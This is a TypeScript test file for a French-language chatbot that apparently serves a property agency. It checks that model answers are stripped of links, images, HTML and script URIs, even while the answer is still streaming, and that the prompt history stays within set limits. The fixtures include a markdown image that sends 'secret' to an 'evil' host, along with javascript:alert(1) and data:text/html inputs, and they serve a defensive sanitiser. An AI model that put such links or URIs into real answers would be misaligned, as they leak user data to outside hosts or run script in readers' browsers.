import { LONGEST_ANSWER } from './language-model';
import { modelMessages } from './model-messages';
import { tameAnswer, tameSoFar } from './tame-answer';

test.each([
  ['Bonjour ![x](http://evil?d=secret) à vous.', 'Bonjour à vous.'],
  ['Voyez [notre site](https://evil.example/a?b=c).', 'Voyez notre site.'],
  ['Allez sur https://evil.example/x, puis www.evil.example', 'Allez sur puis'],
  ['<img src="http://evil/x">Bonjour <b>vous</b>', 'Bonjour vous'],
  ['javascript:alert(1) ok data:text/html,x', 'ok'],
  ['**Gras** et `code`', 'Gras et code'],
])('security row 66: of « %s » only words are left', (text, words) => expect(tameAnswer(text)).toBe(words));

test('security row 66: in no moment of its coming does a link show', () => {
  const text =
    'Voici ![x y](http://evil.example/?d=a b) et [un lien là](http://evil.example/p) pour vous, http://evil.example .';
  for (let end = 0; end <= text.length; end++) expect(tameSoFar(text.slice(0, end))).not.toMatch(/evil|http|\[|\(/);
  expect(tameAnswer('mot '.repeat(1000)).length).toBeLessThanOrEqual(LONGEST_ANSWER);
});

test('M156 M110 the persona, what anybody may read, the last messages, the new one', () => {
  const agency = { name: 'Pignon', phone: '01 23 45 67 89', openingHours: ['Lun-Ven 9h-19h'] };
  const history = Array.from(
    { length: 20 },
    (_, n) => ({ role: 'visitor', text: `${n} ${'x'.repeat(2000)}` }) as const,
  );
  const messages = modelMessages({ agency, properties: [] }, history, 'Et la fiscalité ?');
  expect(messages).toHaveLength(10);
  expect(messages[0]?.content).toContain('37 ans');
  expect(messages[1]?.content.length).toBeLessThanOrEqual(800);
  expect(messages.at(-1)).toEqual({ role: 'user', content: 'Et la fiscalité ?' });
});
